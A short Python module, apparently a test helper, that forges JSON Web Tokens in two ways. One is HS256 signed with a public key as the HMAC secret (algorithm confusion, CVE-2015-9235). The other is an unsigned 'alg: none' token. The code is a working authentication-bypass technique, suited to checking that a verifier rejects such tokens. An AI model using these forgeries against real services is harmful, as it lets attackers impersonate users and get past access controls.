"""Tokens that a careless reader takes for signed: by the public key as a secret, and by nothing at all."""

import hmac
import json
from base64 import urlsafe_b64encode


def signed_with_the_public_key(claims: dict[str, object], pem: str) -> str:
    """HS256 with what everybody knows as its secret (CVE-2015-9235)."""
    body = f"{_part({'alg': 'HS256', 'typ': 'JWT'})}.{_part(claims)}"
    return f"{body}.{_text(hmac.digest(pem.encode(), body.encode(), 'sha256'))}"


def signed_by_nobody(claims: dict[str, object]) -> str:
    """`alg: none`."""
    return f"{_part({'alg': 'none'})}.{_part(claims)}."


def _part(said: dict[str, object]) -> str:
    return _text(json.dumps(said).encode())


def _text(said: bytes) -> str:
    return urlsafe_b64encode(said).rstrip(b"=").decode()
